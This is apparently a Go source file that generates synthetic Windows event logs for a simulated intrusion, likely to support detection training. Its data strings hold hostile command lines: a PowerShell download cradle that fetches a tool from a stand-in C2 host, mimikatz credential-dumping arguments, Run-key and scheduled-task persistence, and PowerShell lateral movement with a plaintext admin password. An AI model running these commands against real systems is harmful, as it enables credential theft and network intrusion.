package scenario

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"time"
)

// Generate builds the scenario for cfg. The same Config always gives the
// same events.
func Generate(cfg Config) *Scenario {
	start := cfg.Start
	if start.IsZero() {
		start = DefaultStart
	}
	g := &gen{r: rand.New(rand.NewPCG(uint64(cfg.Seed), 0x6d6472)), t: start.UTC(), seed: cfg.Seed}
	g.domSID = fmt.Sprintf("S-1-5-21-%d-%d-%d", 1000000000+g.r.IntN(999999999), 1000000000+g.r.IntN(999999999), 100000000+g.r.IntN(999999999))
	const dnsDomain = "corp.example"
	f := Facts{Domain: "CORP", LsassAccess: "0x1010"}
	wks := &host{name: "WKS-FIN07." + dnsDomain, short: "WKS-FIN07", ip: fmt.Sprintf("10.20.4.%d", 20+g.r.IntN(200)),
		guidPre: g.hex(8), sysmonPID: 2000 + 4*g.r.IntN(500), lsassPID: 600 + 4*g.r.IntN(50)}
	srv := &host{name: "SRV-FS01." + dnsDomain, short: "SRV-FS01", ip: fmt.Sprintf("10.20.1.%d", 10+g.r.IntN(40)),
		guidPre: g.hex(8), sysmonPID: 2000 + 4*g.r.IntN(500), lsassPID: 600 + 4*g.r.IntN(50)}
	for _, h := range []*host{wks, srv} {
		h.sysmonRec = 10000 + g.r.IntN(90000)
		h.secRec = 100000 + g.r.IntN(900000)
		h.sysRec = 1000 + g.r.IntN(9000)
		h.psRec = 1000 + g.r.IntN(9000)
	}
	f.Workstation, f.WorkstationIP, f.Server, f.ServerIP = wks.name, wks.ip, srv.name, srv.ip
	users := []string{"j.doe", "m.rossi", "a.kowalski", "s.tanaka", "l.martin"}
	victim := users[g.r.IntN(len(users))]
	f.User = `CORP\` + victim
	f.Admin = `CORP\it.admin`
	system := `NT AUTHORITY\SYSTEM`
	home := `C:\Users\` + victim
	f.C2Domain = "cdn.officesync.example"
	f.C2IP = fmt.Sprintf("203.0.113.%d", 10+g.r.IntN(240))
	f.C2Port = 80
	f.Tool = `C:\ProgramData\Intel\igfxsvc.exe`
	f.ToolOnServer = `C:\Windows\igfxsvc.exe`
	f.ToolHash = g.hex(64)
	f.Service = "IntelGfxSvc"
	f.Task = `\Intel\GfxUpdate`
	docName := fmt.Sprintf("Invoice_%04d-%02d.docm", 2026, 1+g.r.IntN(12))
	f.Document = home + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + g.hex(8) + `\` + docName
	userSID := g.sidOf(f.User)
	f.RunKey = `HKU\` + userSID + `\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\IntelGraphicsHelper`

	// Long-running processes that exist before the story starts.
	g.inNoise = true
	userLogon := g.logonID()
	g.logon(wks, f.User, 2, "127.0.0.1", wks.short, userLogon, "Negotiate")
	g.advance(2*time.Second, 5*time.Second)
	services := &proc{h: wks, guid: g.newGUID(wks), pid: 600 + 4*g.r.IntN(40), image: `C:\Windows\System32\services.exe`,
		cmdline: `C:\Windows\system32\services.exe`, user: system}
	svchost := g.start(wks, services, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
		system, "System", `C:\Windows\system32\`, "0x3e7", "", "svchost.exe", "Host Process for Windows Services", "Microsoft Corporation")
	g.advance(5*time.Second, 20*time.Second)
	userinit := &proc{h: wks, guid: g.newGUID(wks), pid: 4 * (300 + g.r.IntN(4000)), image: `C:\Windows\System32\userinit.exe`,
		cmdline: `C:\Windows\system32\userinit.exe`, user: f.User}
	explorer := g.start(wks, userinit, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, f.User, "Medium", `C:\Windows\system32\`,
		userLogon, "", "EXPLORER.EXE", "Windows Explorer", "Microsoft Corporation")
	g.advance(10*time.Second, 40*time.Second)
	outlook := g.start(wks, explorer, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`,
		`"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" `, f.User, "Medium", `C:\Windows\system32\`,
		userLogon, "", "Outlook.exe", "Microsoft Outlook", "Microsoft Corporation")
	g.advance(time.Second, 3*time.Second)
	g.dns(outlook, "outlook.office365.com", "198.51.100."+strconv.Itoa(10+g.r.IntN(200)))
	browser := g.start(wks, explorer, `C:\Program Files\Google\Chrome\Application\chrome.exe`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" `, f.User, "Medium", `C:\Program Files\Google\Chrome\Application\`,
		userLogon, "", "chrome.exe", "Google Chrome", "Google LLC")

	// Backup and admin activity on the server.
	backupLogon := g.logonID()
	g.logon(srv, `CORP\svc_backup`, 3, "10.20.1.120", "BKP01", backupLogon, "Kerberos")
	g.advance(time.Second, 3*time.Second)
	g.securityEvent(srv, 5140, 1, 12808, Field{"SubjectUserSid", g.sidOf(`CORP\svc_backup`)}, Field{"SubjectUserName", "svc_backup"},
		Field{"SubjectDomainName", "CORP"}, Field{"SubjectLogonId", backupLogon}, Field{"ObjectType", "File"},
		Field{"IpAddress", "10.20.1.120"}, Field{"IpPort", strconv.Itoa(50000 + g.r.IntN(9000))}, Field{"ShareName", `\\*\Finance`},
		Field{"ShareLocalPath", `\??\D:\Shares\Finance`}, Field{"AccessMask", "0x1"}, Field{"AccessList", "%%4416\r\n\t\t\t\t"})
	g.advance(5*time.Second, 30*time.Second)
	g.securityEvent(srv, 4634, 0, 12545, Field{"TargetUserSid", g.sidOf(`CORP\svc_backup`)}, Field{"TargetUserName", "svc_backup"},
		Field{"TargetDomainName", "CORP"}, Field{"TargetLogonId", backupLogon}, Field{"LogonType", "3"})

	// Benign noise scattered through the morning: a seed-dependent amount.
	noise := []func(){
		func() { g.dns(browser, "www.example.org", "198.51.100."+strconv.Itoa(10+g.r.IntN(200))) },
		func() { g.netConn(browser, "tcp", "198.51.100."+strconv.Itoa(10+g.r.IntN(200)), 443, "") },
		func() {
			g.dns(svchost, "settings-win.data.microsoft.com", "198.51.100."+strconv.Itoa(10+g.r.IntN(200)))
		},
		func() {
			g.regSet(svchost, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Microsoft\Windows\UpdateOrchestrator\Schedule Scan\Index`, "DWORD (0x00000003)")
		},
		func() { g.fileCreate(browser, home+`\Downloads\quarterly-report-`+strconv.Itoa(g.r.IntN(100))+`.pdf`) },
		func() {
			g.imageLoad(outlook, `C:\Windows\System32\mswsock.dll`, "mswsock.dll", "Microsoft Windows Sockets 2.0 Service Provider", true)
		},
		func() {
			p := g.start(wks, svchost, `C:\Windows\System32\taskhostw.exe`, `taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly`,
				f.User, "Medium", `C:\Windows\system32\`, userLogon, "", "taskhostw.exe", "Host Process for Windows Tasks", "Microsoft Corporation")
			g.advance(time.Second, 4*time.Second)
			g.terminate(p)
		},
		func() {
			l := g.logonID()
			g.logon(srv, `CORP\svc_backup`, 3, "10.20.1.120", "BKP01", l, "Kerberos")
			g.advance(2*time.Second, 20*time.Second)
			g.securityEvent(srv, 4634, 0, 12545, Field{"TargetUserSid", g.sidOf(`CORP\svc_backup`)}, Field{"TargetUserName", "svc_backup"},
				Field{"TargetDomainName", "CORP"}, Field{"TargetLogonId", l}, Field{"LogonType", "3"})
		},
	}
	sprinkle := func(n int) {
		g.inNoise = true
		for range n {
			g.advance(5*time.Second, 90*time.Second)
			noise[g.r.IntN(len(noise))]()
		}
		g.inNoise = false
	}
	sprinkle(4 + g.r.IntN(5))

	// 1. Delivery: Outlook saves the attachment, the user opens it.
	g.inNoise = false
	g.step = StepDelivery
	g.advance(30*time.Second, 2*time.Minute)
	g.fileCreate(outlook, f.Document)
	g.advance(3*time.Second, 15*time.Second)
	word := g.start(wks, outlook, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
		`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "`+f.Document+`" /o ""`, f.User, "Medium",
		`C:\Users\`+victim+`\Documents\`, userLogon, "", "WinWord.exe", "Microsoft Word", "Microsoft Corporation")
	f.WordGUID = word.guid
	g.advance(500*time.Millisecond, 2*time.Second)
	g.imageLoad(word, `C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL`, "VBE7.DLL", "Visual Basic for Applications Runtime", true)

	// 2. Execution: the macro starts PowerShell with an encoded download cradle.
	g.step = StepExecution
	script := fmt.Sprintf("$w=New-Object Net.WebClient;$w.DownloadFile('http://%s/dl/igfx.bin','%s');Start-Process '%s' -ArgumentList 'privilege::debug sekurlsa::logonpasswords exit' -WindowStyle Hidden",
		f.C2Domain, f.Tool, f.Tool)
	f.DecodedCommand = script
	f.EncodedCommand = EncodePowerShell(script)
	g.advance(2*time.Second, 6*time.Second)
	psImage := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	ps := g.start(wks, word, psImage, `powershell.exe -nop -w hidden -enc `+f.EncodedCommand, f.User, "Medium",
		`C:\Users\`+victim+`\Documents\`, userLogon, "", "PowerShell.EXE", "Windows PowerShell", "Microsoft Corporation")
	f.PowerShellGUID = ps.guid
	g.advance(300*time.Millisecond, time.Second)
	g.scriptBlock(ps, script, f.User)
	g.advance(100*time.Millisecond, 500*time.Millisecond)
	g.dns(ps, f.C2Domain, f.C2IP)
	g.advance(50*time.Millisecond, 200*time.Millisecond)
	g.netConn(ps, "tcp", f.C2IP, f.C2Port, f.C2Domain)
	g.advance(time.Second, 3*time.Second)
	g.fileCreate(ps, f.Tool)

	// 3. Credential access: the tool opens lsass.
	g.step = StepCredentials
	g.advance(500*time.Millisecond, 2*time.Second)
	toolHashes := "SHA1=" + g.hex(40) + ",MD5=" + g.hex(32) + ",SHA256=" + f.ToolHash + ",IMPHASH=" + g.hex(32)
	tool := g.start(wks, ps, f.Tool, `"`+f.Tool+`" privilege::debug sekurlsa::logonpasswords exit`, f.User, "High",
		`C:\Users\`+victim+`\Documents\`, userLogon, toolHashes, "mimikatz.exe", "mimikatz for Windows", "gentilkiwi (Benjamin DELPY)")
	f.ToolGUID = tool.guid
	lsass := &proc{h: wks, guid: fmt.Sprintf("{%s-%s-%s-0C00-000000000A00}", wks.guidPre, g.hex(4), g.hex(4)), pid: wks.lsassPID,
		image: `C:\Windows\system32\lsass.exe`, user: system}
	f.LsassGUID = lsass.guid
	g.advance(200*time.Millisecond, 800*time.Millisecond)
	g.sysmonEvent(wks, 10, 3, Field{"SourceProcessGUID", tool.guid}, Field{"SourceProcessId", strconv.Itoa(tool.pid)},
		Field{"SourceThreadId", strconv.Itoa(tool.pid + 12)}, Field{"SourceImage", tool.image},
		Field{"TargetProcessGUID", lsass.guid}, Field{"TargetProcessId", strconv.Itoa(lsass.pid)}, Field{"TargetImage", lsass.image},
		Field{"GrantedAccess", f.LsassAccess},
		Field{"CallTrace", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|` + f.Tool + `+6b2f1|` + f.Tool + `+6a0e3|C:\Windows\System32\KERNEL32.DLL+17034|C:\Windows\SYSTEM32\ntdll.dll+52651`},
		Field{"SourceUser", f.User}, Field{"TargetUser", system})
	g.advance(time.Second, 3*time.Second)
	g.terminate(tool)

	sprinkle(1 + g.r.IntN(3))

	// 4. Persistence on the workstation: a Run key and a scheduled task.
	g.step = StepPersistence
	g.advance(10*time.Second, 40*time.Second)
	g.regSet(ps, f.RunKey, f.Tool)
	g.advance(2*time.Second, 8*time.Second)
	schtasks := g.start(wks, ps, `C:\Windows\System32\schtasks.exe`,
		`"C:\Windows\system32\schtasks.exe" /create /tn "`+f.Task[1:]+`" /tr "`+f.Tool+`" /sc onlogon /f`, f.User, "Medium",
		`C:\Users\`+victim+`\Documents\`, userLogon, "", "schtasks.exe", "Task Scheduler Configuration Tool", "Microsoft Corporation")
	g.advance(100*time.Millisecond, 400*time.Millisecond)
	g.securityEvent(wks, 4698, 1, 12804, Field{"SubjectUserSid", userSID}, Field{"SubjectUserName", victim},
		Field{"SubjectDomainName", "CORP"}, Field{"SubjectLogonId", userLogon}, Field{"TaskName", f.Task},
		Field{"TaskContent", taskXML(f.Task, f.User, f.Tool, g.t)})
	g.advance(20*time.Millisecond, 80*time.Millisecond)
	g.fileCreate(svchost, `C:\Windows\System32\Tasks`+f.Task) // the Schedule service stores the definition
	g.advance(100*time.Millisecond, 300*time.Millisecond)
	g.terminate(schtasks)

	sprinkle(1 + g.r.IntN(3))

	// 5. Lateral movement with the stolen admin credential: explicit
	// credentials, SMB to ADMIN$, a service on the server.
	g.step = StepLateral
	g.advance(30*time.Second, 2*time.Minute)
	lateral := fmt.Sprintf("$p=ConvertTo-SecureString 'Spring2026!' -AsPlainText -Force;$c=New-Object System.Management.Automation.PSCredential('%s',$p);New-PSDrive -Name S -PSProvider FileSystem -Root \\\\%s\\ADMIN$ -Credential $c|Out-Null;Copy-Item '%s' 'S:\\igfxsvc.exe'",
		f.Admin, srv.name, f.Tool)
	g.scriptBlock(ps, lateral, f.User)
	g.advance(100*time.Millisecond, 400*time.Millisecond)
	adminDom, adminName := splitUser(f.Admin)
	g.securityEvent(wks, 4648, 0, 12544, Field{"SubjectUserSid", userSID}, Field{"SubjectUserName", victim},
		Field{"SubjectDomainName", "CORP"}, Field{"SubjectLogonId", userLogon}, Field{"LogonGuid", "{00000000-0000-0000-0000-000000000000}"},
		Field{"TargetUserName", adminName}, Field{"TargetDomainName", adminDom}, Field{"TargetLogonGuid", "{00000000-0000-0000-0000-000000000000}"},
		Field{"TargetServerName", srv.name}, Field{"TargetInfo", "cifs/" + srv.name}, Field{"ProcessId", hexPID(ps.pid)},
		Field{"ProcessName", ps.image}, Field{"IpAddress", srv.ip}, Field{"IpPort", "445"})
	g.netConn(ps, "tcp", srv.ip, 445, srv.name)
	g.advance(50*time.Millisecond, 200*time.Millisecond)
	adminLogon := g.logonID()
	g.logon(srv, f.Admin, 3, wks.ip, wks.short, adminLogon, "NTLM")
	g.securityEvent(srv, 4672, 0, 12548, Field{"SubjectUserSid", g.sidOf(f.Admin)}, Field{"SubjectUserName", adminName},
		Field{"SubjectDomainName", adminDom}, Field{"SubjectLogonId", adminLogon},
		Field{"PrivilegeList", "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege"})
	smbPort := strconv.Itoa(49700 + g.r.IntN(15000))
	g.securityEvent(srv, 5140, 1, 12808, Field{"SubjectUserSid", g.sidOf(f.Admin)}, Field{"SubjectUserName", adminName},
		Field{"SubjectDomainName", adminDom}, Field{"SubjectLogonId", adminLogon}, Field{"ObjectType", "File"},
		Field{"IpAddress", wks.ip}, Field{"IpPort", smbPort}, Field{"ShareName", `\\*\ADMIN$`}, Field{"ShareLocalPath", `\??\C:\Windows`},
		Field{"AccessMask", "0x1"}, Field{"AccessList", "%%4416\r\n\t\t\t\t"})
	g.advance(100*time.Millisecond, 300*time.Millisecond)
	g.securityEvent(srv, 5145, 0, 12811, Field{"SubjectUserSid", g.sidOf(f.Admin)}, Field{"SubjectUserName", adminName},
		Field{"SubjectDomainName", adminDom}, Field{"SubjectLogonId", adminLogon}, Field{"ObjectType", "File"},
		Field{"IpAddress", wks.ip}, Field{"IpPort", smbPort}, Field{"ShareName", `\\*\ADMIN$`}, Field{"ShareLocalPath", `\??\C:\Windows`},
		Field{"RelativeTargetName", "igfxsvc.exe"}, Field{"AccessMask", "0x130197"},
		Field{"AccessList", "%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4417\r\n\t\t\t\t%%4418\r\n\t\t\t\t%%4419\r\n\t\t\t\t%%4420\r\n\t\t\t\t%%4423\r\n\t\t\t\t%%4424\r\n\t\t\t\t"},
		Field{"AccessReason", "-"})
	srvSystem := &proc{h: srv, guid: g.newGUID(srv), pid: 4, image: "System", user: system}
	srvServices := &proc{h: srv, guid: g.newGUID(srv), pid: 600 + 4*g.r.IntN(40), image: `C:\Windows\System32\services.exe`,
		cmdline: `C:\Windows\system32\services.exe`, user: system}
	g.advance(200*time.Millisecond, 900*time.Millisecond)
	g.fileCreate(srvSystem, f.ToolOnServer)

	// The service is created remotely (sc.exe on the workstation).
	g.advance(2*time.Second, 6*time.Second)
	sc := g.start(wks, ps, `C:\Windows\System32\sc.exe`,
		`"C:\Windows\system32\sc.exe" \\`+srv.name+` create `+f.Service+` binPath= "%SystemRoot%\igfxsvc.exe" start= demand`,
		f.User, "Medium", `C:\Users\`+victim+`\Documents\`, userLogon, "", "sc.exe", "Service Control Manager Configuration Tool", "Microsoft Corporation")
	g.advance(100*time.Millisecond, 300*time.Millisecond)
	srv.sysRec++
	g.emit(Record{{"EventID", 7045}, {"Channel", "System"}, {"Provider_Name", "Service Control Manager"}, {"Computer", srv.name},
		{"TimeCreated", timeCreated(g.t)}, {"EventRecordID", srv.sysRec}, {"Provider_Guid", scmGUID}, {"Version", 0}, {"Level", 4},
		{"Task", 0}, {"Opcode", 0}, {"Keywords", "0x8080000000000000"}, {"Execution_ProcessID", 600 + 4*g.r.IntN(40)},
		{"Execution_ThreadID", 700 + 4*g.r.IntN(400)}, {"Provider_EventSourceName", "Service Control Manager"},
		{"Security_UserID", g.sidOf(f.Admin)}, {"ServiceName", f.Service}, {"ImagePath", `%SystemRoot%\igfxsvc.exe`},
		{"ServiceType", "user mode service"}, {"StartType", "demand start"}, {"AccountName", "LocalSystem"}})
	g.regSet(srvServices, `HKLM\System\CurrentControlSet\Services\`+f.Service+`\ImagePath`, `%SystemRoot%\igfxsvc.exe`)
	g.securityEvent(srv, 4697, 0, 12289, Field{"SubjectUserSid", g.sidOf(f.Admin)}, Field{"SubjectUserName", adminName},
		Field{"SubjectDomainName", adminDom}, Field{"SubjectLogonId", adminLogon}, Field{"ServiceName", f.Service},
		Field{"ServiceFileName", `%SystemRoot%\igfxsvc.exe`}, Field{"ServiceType", "0x10"}, Field{"ServiceStartType", "3"},
		Field{"ServiceAccount", "LocalSystem"})
	g.advance(100*time.Millisecond, 300*time.Millisecond)
	g.terminate(sc)
	g.advance(time.Second, 3*time.Second)
	srvTool := g.start(srv, srvServices, f.ToolOnServer, `C:\Windows\igfxsvc.exe`, system, "System", `C:\Windows\system32\`, "0x3e7",
		toolHashes, "mimikatz.exe", "mimikatz for Windows", "gentilkiwi (Benjamin DELPY)")
	f.ServerToolGUID = srvTool.guid
	g.step = StepDiscovery
	g.advance(time.Second, 4*time.Second)
	cmd := g.start(srv, srvTool, `C:\Windows\System32\cmd.exe`, `cmd.exe /c "whoami /all & net group "Domain Admins" /domain & nltest /dclist:corp.example"`,
		system, "System", `C:\Windows\system32\`, "0x3e7", "", "Cmd.Exe", "Windows Command Processor", "Microsoft Corporation")
	g.advance(200*time.Millisecond, time.Second)
	g.start(srv, cmd, `C:\Windows\System32\whoami.exe`, `whoami  /all`, system, "System", `C:\Windows\system32\`, "0x3e7", "",
		"whoami.exe", "whoami - displays logged on user information", "Microsoft Corporation")
	g.advance(200*time.Millisecond, time.Second)
	g.start(srv, cmd, `C:\Windows\System32\net.exe`, `net  group "Domain Admins" /domain`, system, "System", `C:\Windows\system32\`,
		"0x3e7", "", "net.exe", "Net Command", "Microsoft Corporation")

	sprinkle(2 + g.r.IntN(4))

	f.AttackEvents, f.NoiseEvents = g.attack, g.noise
	return &Scenario{Events: g.events, Facts: f, steps: g.steps}
}

// scriptBlock writes a PowerShell 4104 script block event.
func (g *gen) scriptBlock(ps *proc, text, user string) {
	h := ps.h
	h.psRec++
	g.emit(Record{{"EventID", 4104}, {"Channel", "Microsoft-Windows-PowerShell/Operational"},
		{"Provider_Name", "Microsoft-Windows-PowerShell"}, {"Computer", h.name}, {"TimeCreated", timeCreated(g.t)},
		{"EventRecordID", h.psRec}, {"Provider_Guid", psGUIDProv}, {"Version", 1}, {"Level", 5}, {"Task", 2}, {"Opcode", 15},
		{"Keywords", "0x0"}, {"Execution_ProcessID", ps.pid}, {"Execution_ThreadID", ps.pid + 20 + 4*g.r.IntN(100)},
		{"Security_UserID", g.sidOf(user)}, {"MessageNumber", "1"}, {"MessageTotal", "1"}, {"ScriptBlockText", text},
		{"ScriptBlockId", fmt.Sprintf("%s-%s-%s-%s-%s", g.hex(8), g.hex(4), g.hex(4), g.hex(4), g.hex(12))}, {"Path", ""}})
}

func taskXML(name, user, tool string, t time.Time) string {
	return "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n" +
		"  <RegistrationInfo>\r\n    <Date>" + t.UTC().Format("2006-01-02T15:04:05") + "</Date>\r\n    <Author>" + user + "</Author>\r\n    <URI>" + name + "</URI>\r\n  </RegistrationInfo>\r\n" +
		"  <Triggers>\r\n    <LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n  </Triggers>\r\n" +
		"  <Principals>\r\n    <Principal id=\"Author\">\r\n      <UserId>" + user + "</UserId>\r\n      <LogonType>InteractiveToken</LogonType>\r\n      <RunLevel>LeastPrivilege</RunLevel>\r\n    </Principal>\r\n  </Principals>\r\n" +
		"  <Settings>\r\n    <Hidden>false</Hidden>\r\n    <Enabled>true</Enabled>\r\n  </Settings>\r\n" +
		"  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>" + tool + "</Command>\r\n    </Exec>\r\n  </Actions>\r\n</Task>"
}
